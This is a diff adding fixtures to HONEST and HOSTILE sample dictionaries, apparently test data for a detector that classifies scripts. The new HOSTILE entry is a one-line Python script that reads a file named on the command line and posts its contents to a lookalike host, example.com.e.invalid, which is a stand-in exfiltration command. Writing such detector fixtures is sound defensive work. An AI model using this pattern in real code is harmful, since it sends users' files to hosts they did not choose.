@@ -42,6 +42,10 @@ HONEST: dict[str, tuple[str, str]] = {
         "a.py",
         "import sys, requests\nrequests.post('https://api.minimaxi.com/v1', json={'q': open(sys.argv[1]).read()})\n",
     ),
+    "a name that is kept for examples": (
+        "a.py",
+        "import sys, requests\nrequests.post('http://example.com:99/v1', json={'q': open(sys.argv[1]).read()})\n",
+    ),
     "answer read": (
         "a.sh",
         (
@@ -58,6 +62,10 @@ HONEST: dict[str, tuple[str, str]] = {
     ),
 }
 HOSTILE: dict[str, tuple[str, str]] = {
+    "a name that looks kept for examples": (
+        "a.py",
+        "import sys, requests\nrequests.post('http://example.com.e.invalid', json={'q': open(sys.argv[1]).read()})\n",
+    ),
     "input read first": (
         "a.sh",
         (
